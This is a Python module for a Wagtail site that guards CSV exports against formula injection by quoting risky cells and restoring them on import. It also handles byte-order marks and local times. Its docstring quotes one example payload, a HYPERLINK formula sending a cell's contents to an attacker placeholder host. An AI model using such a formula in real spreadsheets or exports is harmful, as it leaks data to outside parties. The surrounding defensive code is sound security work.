"""CSV cells that a spreadsheet cannot run as formulas (OWASP's "CSV injection" rule).

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula: a term, a note or a title typed as
``=HYPERLINK("https://evil.example/?"&A1)`` would run on the desk's computer when the export is
opened. Such cells get a leading single quote, which spreadsheets show as text.

So that a glossary exported, edited and imported again comes back unchanged, the rule is
reversible: a value that already begins with quotes before such a character gets one more, and
``restore_cell`` takes exactly one off. XLSX needs none of this: Wagtail writes every cell of
an XLSX export as a string.

Exports are opened by desks in Excel on Chinese Windows, which reads a CSV without a byte-order
mark in the local code page: the CSV starts with one. Times are written in the site's time
zone to the second (Excel keeps no time zone; the desk works in local time).

A CSV is streamed after the view has returned, when Wagtail has already switched the user's
language and time zone off again: each chunk is written with the request's language and time
zone put back, so headings and times read as in the XLSX and on the screen.
"""

from __future__ import annotations

import datetime
from collections.abc import Iterable, Iterator
from typing import Any

from django.utils import timezone, translation

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BYTE_ORDER_MARK = "\ufeff"
QUOTE = "'"


def neutralise_cell(value: Any) -> Any:
    """``value`` safe to write into a CSV cell; anything but text is returned as it is."""
    if isinstance(value, str) and value.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def restore_cell(value: str) -> str:
    """The value ``neutralise_cell`` was given, from what it returned (text read from a CSV)."""
    if value.startswith(QUOTE) and value.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return value[1:]
    return value


def local_time(value: datetime.datetime) -> datetime.datetime:
    """A time as the desk reads it: the site's time zone, to the second, no zone attached."""
    if timezone.is_aware(value):
        value = timezone.make_naive(value, timezone.get_current_timezone())
    return value.replace(microsecond=0)


def local_time_text(value: datetime.datetime) -> str:
    return local_time(value).strftime("%Y-%m-%d %H:%M:%S")


def in_request_locale(chunks: Iterable[str]) -> Iterator[str]:
    """``chunks``, each made under the language and time zone active now (the request's)."""
    language = translation.get_language()
    zone = timezone.get_current_timezone()
    return _made_under(language, zone, iter(chunks))


def _made_under(language: str | None, zone, chunks: Iterator[str]) -> Iterator[str]:
    # Overridden around each chunk only, never across a yield: the server thread runs other
    # code between chunks.
    while True:
        with translation.override(language), timezone.override(zone):
            chunk = next(chunks, None)
        if chunk is None:
            return
        yield chunk


class SafeCsvExportMixin:
    """For views with Wagtail's ``SpreadsheetExportMixin``: every CSV cell neutralised, a
    byte-order mark first, times local to the second in CSV and XLSX.

    Put it before the Wagtail view class in the bases. Numbers stay numbers (a negative
    figure is not text and no spreadsheet runs it).
    """

    custom_value_preprocess = {
        **SpreadsheetExportMixin.custom_value_preprocess,
        # Replaces Wagtail's entry for times (UTC), keeping its place before ``date``.
        datetime.datetime: {
            SpreadsheetExportMixin.FORMAT_CSV: local_time_text,
            SpreadsheetExportMixin.FORMAT_XLSX: local_time,
        },
    }

    def stream_csv(self, queryset) -> Iterator[str]:
        # Read now, while the view runs: the chunks are made once it has returned.
        return in_request_locale(self._csv_with_mark(queryset))

    def _csv_with_mark(self, queryset) -> Iterator[str]:
        yield BYTE_ORDER_MARK
        yield from super().stream_csv(queryset)

    def preprocess_field_value(self, field: str, value: Any, export_format: str) -> Any:
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == "csv":
            return neutralise_cell(value)
        return value
